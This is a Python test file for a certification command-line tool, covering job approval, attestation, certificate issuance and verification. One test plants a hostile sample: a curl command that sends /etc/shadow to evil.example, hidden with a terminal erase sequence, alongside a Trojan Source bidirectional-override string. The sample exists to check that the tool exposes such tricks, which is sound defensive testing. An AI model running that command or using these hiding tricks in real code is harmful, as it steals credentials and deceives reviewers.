"""The owner's side of a certification job at the command line: list, read, approve, verify."""

import base64
import json
import time

from qdsn.compute import package
from qdsn.node import Node, NodeHome, requested
from qdsn.node import jobs as node_jobs
from qdsn.node.follow import log_key
from qdsn.node.provider import publish, request, verify_agreement

from .test_cli import PASS, qdsn


def test_the_owner_reads_approves_and_anyone_verifies(tmp_path):
    pw = PASS["QDSN_PASSPHRASE"]
    reg = NodeHome.init(tmp_path / "reg", "regulator", "Bureau", pw, scrypt_n=2**4)
    shared = str(tmp_path / "reg" / "ledger.db")
    maker = NodeHome.init(tmp_path / "acme", "enterprise", "Acme", pw, ledger_url=shared, scrypt_n=2**4)
    cqc = NodeHome.init(tmp_path / "cqc", "certifier", "CQC", pw, ledger_url=shared, scrypt_n=2**4)
    for h in (maker, cqc):
        reg.submit("identity.register", h.registration())
    qdsn("dataset", "create", "line-1", "--title", "Line 1", "--characteristic",
         "resistance:Ω/km:17.0:18.1:critical", home=maker.path)  # fmt: skip
    rows = "characteristic,value,time\n" + "".join(
        f"resistance,{17.5 + (i % 7) / 100:.2f},2026-03-01T08:{i // 60:02d}:{i % 60:02d}Z\n" for i in range(120)
    )
    (tmp_path / "r.csv").write_text(rows)
    qdsn("ingest", "csv", str(tmp_path / "r.csv"), "--dataset", "line-1", home=maker.path)
    assert "published" in qdsn("model", "publish", "process-capability", home=cqc.path).stdout

    node = Node(maker, operator=True)  # a job arrives, as the API would take it
    uid = "urn:qdsn:offer:line-1:c"
    publish(node, "line-1", {"@context": "http://www.w3.org/ns/odrl.jsonld", "@type": "Offer", "uid": uid,
                             "profile": "urn:qdsn:odrl:profile:v1", "assigner": maker.did,
                             "target": "urn:qdsn:dataset:line-1", "permission": [{"action": "compute"}]})  # fmt: skip
    n = request(node, cqc.did, {"consumerPid": "c-1", "offer": node.policies.offer(uid)[1]})
    verify_agreement(node, cqc.did, n.provider_pid)
    blob, _ = package.load(package.builtin("process-capability"))
    job = node_jobs.request(node, cqc.did, {
        "agreementId": n.agreement["uid"], "archive": base64.b64encode(blob).decode(), "nonce": "cli-nonce-1",
        "datasets": [{"dataset": "line-1", "first": 0, "count": 120}], "parameters": {"threshold": 1.0}})  # fmt: skip
    node.close()

    assert job.id in qdsn("jobs", "list", home=maker.path).stdout
    shown = qdsn("jobs", "show", job.id, home=maker.path).stdout
    assert "def main()" in shown and '"exports"' in shown  # the source and the manifest, before approving
    done = qdsn("jobs", "approve", job.id, home=maker.path).stdout
    assert "done" in done and '"pass"' in done
    (listed,) = json.loads(qdsn("jobs", "list", "--json", home=maker.path).stdout)
    (tmp_path / "result.json").write_text(json.dumps(listed["result"]))
    verified = qdsn("attest", "verify", str(tmp_path / "result.json"), "--nonce", "cli-nonce-1", home=cqc.path)
    assert "attestation verified" in verified.stdout and "matches the output shown" in verified.stdout
    listed["result"]["output"]["pass"] = not listed["result"]["output"]["pass"]
    (tmp_path / "forged.json").write_text(json.dumps(listed["result"]))
    bad = qdsn("attest", "verify", str(tmp_path / "forged.json"), home=cqc.path, ok=False)
    assert bad.returncode == 1 and "output: the result shown is not the one attested" in bad.stdout

    # the certification body issues a certificate from the attested run; the manufacturer presents it
    ledger = reg.ledger()
    ledger.witness(ledger.sign_checkpoint(reg.log_signer()), log_key(ledger), cqc.cosigner(), int(time.time()))
    ledger.close()
    listed["result"]["output"]["pass"] = True  # undo the forgery above
    requested.record(cqc.path, "http://acme.example", job.id, "cli-nonce-1")  # as `qdsn jobs request` keeps it
    (tmp_path / "result.json").write_text(json.dumps(listed["result"]))
    sd, pres = tmp_path / "cert.sd-jwt", tmp_path / "shown.txt"
    issue = ["cert", "issue", str(tmp_path / "result.json"), "--number", "CQC-1", "--standard", "GB/T 5023",
             "--category", "cable", "--scope", "BV 2.5", "--site", "Hangzhou", "--status-list",
             "https://cqc.example/status-lists/1", "--out", str(sd)]  # fmt: skip
    assert "CQC-1 issued" in qdsn(*issue, home=cqc.path).stdout
    shown = qdsn("cert", "present", str(sd), "--disclose", "indicators", "--aud", "did:web:buyer", "--nonce", "b-9",
                 "--qr", str(tmp_path / "qr.png"), "--link", "https://acme.example/p/1",
                 home=maker.path).stdout.splitlines()[0]  # fmt: skip
    assert (tmp_path / "qr.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    pres.write_text(shown)
    ok = qdsn("verify", str(pres), "--aud", "did:web:buyer", "--nonce", "b-9", home=cqc.path).stdout
    assert "attestation" in ok and "✗" not in ok
    ledger = reg.ledger()  # both members cosign a checkpoint that covers the credential.issue
    note = ledger.sign_checkpoint(reg.log_signer())
    for m in (cqc, maker):
        note = ledger.witness(note, log_key(ledger), m.cosigner(), int(time.time()))
    ledger.close()
    qdsn("bundle", str(pres), "--out", str(tmp_path / "bundle.json"), home=cqc.path)
    qdsn("trust", "export", "--out", str(tmp_path / "trust.json"), home=maker.path)  # the buyer's anchor, once
    offline = qdsn(
        "verify", str(tmp_path / "bundle.json"), "--trust", str(tmp_path / "trust.json"), "--aud", "did:web:buyer",
        "--nonce", "b-9", home=tmp_path / "nowhere",
    ).stdout  # no node, no network: the bundle carries what is needed, the trust file anchors it  # fmt: skip
    assert "attestation" in offline and "consortium" in offline and "✗" not in offline
    qdsn("cert", "suspend", "CQC-1", "--reason", "audit finding", home=cqc.path)
    refused = qdsn("verify", str(pres), "--aud", "did:web:buyer", "--nonce", "b-9", home=cqc.path, ok=False)
    assert refused.returncode == 1 and "suspended" in refused.stdout
    assert "suspended" in qdsn("cert", "list", home=maker.path).stdout
    shown_all = qdsn("cert", "show", str(sd), home=maker.path).stdout
    assert '"site": "Hangzhou"' in shown_all and "status on the ledger: suspended" in shown_all
    scheduled = qdsn("cert", "schedule", "CQC-1", "--maker", "https://acme.example", "--agreement", "urn:x",
                     "--model", "process-capability", "--every", "3600", home=cqc.path).stdout  # fmt: skip
    assert "rechecked every 3600 s" in scheduled
    assert json.loads(qdsn("cert", "schema").stdout)["$id"] == "urn:qdsn:vct:quality-certificate:1"


def lab(tmp_path, source, name="tiny"):
    """A maker with anchored readings, a certifier that published the model printing what `source`
    prints, and a job for it waiting for the maker: (maker's home, the job's id)."""
    pw = PASS["QDSN_PASSPHRASE"]
    reg = NodeHome.init(tmp_path / "reg", "regulator", "Bureau", pw, scrypt_n=2**4)
    shared = str(tmp_path / "reg" / "ledger.db")
    maker = NodeHome.init(tmp_path / "acme", "enterprise", "Acme", pw, ledger_url=shared, scrypt_n=2**4)
    cqc = NodeHome.init(tmp_path / "cqc", "certifier", "CQC", pw, ledger_url=shared, scrypt_n=2**4)
    for h in (maker, cqc):
        reg.submit("identity.register", h.registration())
    folder = tmp_path / name
    folder.mkdir()
    (folder / "m.py").write_text(source)
    (folder / "manifest.json").write_text(json.dumps({
        "id": name, "version": "1.0.0", "entrypoint": "m.py", "description": "test model",
        "reads": {"kinds": ["measurements"]}, "parameters": {"type": "object"}, "exports": ["pass"],
        "outputs": {"type": "object", "additionalProperties": False, "properties": {"pass": {"type": "boolean"}}},
    }))  # fmt: skip
    node = Node(maker, operator=True)
    node.submit([maker.sign("dataset.declare", {"dataset": "line-1", "title": "Line 1", "kind": "measurements",
                                                "characteristics": []})])  # fmt: skip
    node.vault.create("line-1", "measurements")
    batch = node.vault.add_batch("line-1", [{"characteristic": "r", "value": 1.0, "time": "2026-03-01T08:00:00Z"}])
    node.vault.mark_anchored(batch, node.order([maker.sign("dataset.anchor", batch.anchor_payload())])[0].txid)
    blob, m = package.load(folder)
    node.order([cqc.sign("model.publish", {"model": m.id, "version": m.version, "hash": package.code_hash(blob),
                                           "manifest": m.model_dump(mode="json")})])  # fmt: skip
    uid = "urn:qdsn:offer:line-1:c"
    publish(node, "line-1", {"@context": "http://www.w3.org/ns/odrl.jsonld", "@type": "Offer", "uid": uid,
                             "profile": "urn:qdsn:odrl:profile:v1", "assigner": maker.did,
                             "target": "urn:qdsn:dataset:line-1", "permission": [{"action": "compute"}]})  # fmt: skip
    n = request(node, cqc.did, {"consumerPid": "c-1", "offer": node.policies.offer(uid)[1]})
    verify_agreement(node, cqc.did, n.provider_pid)
    job = node_jobs.request(node, cqc.did, {
        "agreementId": n.agreement["uid"], "archive": base64.b64encode(blob).decode(), "nonce": "cli-nonce-1",
        "datasets": [{"dataset": "line-1", "first": 0, "count": 1}]})  # fmt: skip
    node.close()
    return maker.path, job.id


def test_a_job_whose_node_stopped_mid_run_is_failed_as_interrupted(tmp_path):
    import os
    import signal
    import subprocess
    import sys

    home, job = lab(tmp_path, "import sys, time\nsys.stdin.read()\ntime.sleep(60)\nprint('{\"pass\": true}')\n")
    env = {**os.environ, **PASS, "QDSN_HOME": str(home)}
    run = subprocess.Popen([sys.executable, "-m", "qdsn", "jobs", "approve", job], env=env,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    try:
        for _ in range(100):  # the approval has claimed the job and the model sleeps in the sandbox
            (seen,) = json.loads(qdsn("jobs", "list", "--json", home=home).stdout)
            if seen["state"] != "pending":
                break
            time.sleep(0.2)
        assert seen["state"] == "approved" and run.poll() is None
    finally:
        os.kill(run.pid, signal.SIGKILL)  # the node dies mid-run
        run.wait()
    (seen,) = json.loads(qdsn("jobs", "list", "--json", home=home).stdout)
    assert seen["state"] == "failed" and seen["reason"].startswith("interrupted")
    again = qdsn("jobs", "approve", job, home=home, ok=False)
    assert again.returncode != 0 and "is failed" in again.stdout + again.stderr


def test_the_source_shown_for_approval_hides_nothing(tmp_path):
    source = ("import os, sys\n"
              "os.system('curl -d @/etc/shadow evil.example')\x1b[2K\r# harmless\n"  # erases itself on a terminal
              "access = 'user\u202e \u2066# admin only\u2069 \u2066'\n"  # Trojan Source
              "print('{\"pass\": true}')  # [red]not markup[/red]\u200b\n")  # fmt: skip
    home, job = lab(tmp_path, source)
    shown = qdsn("jobs", "show", job, home=home).stdout
    for raw in ("\x1b", "\r", "\u202e", "\u2066", "\u2069", "\u200b"):
        assert raw not in shown  # nothing reaches the terminal to act on it
    assert "os.system('curl -d @/etc/shadow evil.example')\\x1b[2K\\r# harmless" in shown
    assert "access = 'user\\u202e \\u2066# admin only\\u2069 \\u2066'" in shown
    assert "# [red]not markup[/red]\\u200b" in shown  # markup in source is printed, not obeyed
    warning = shown[: shown.index("import os, sys")]
    assert "m.py holds 7 hidden characters" in warning
    assert "line 2, column 47: \\x1b control character" in warning and "RIGHT-TO-LEFT OVERRIDE" in warning
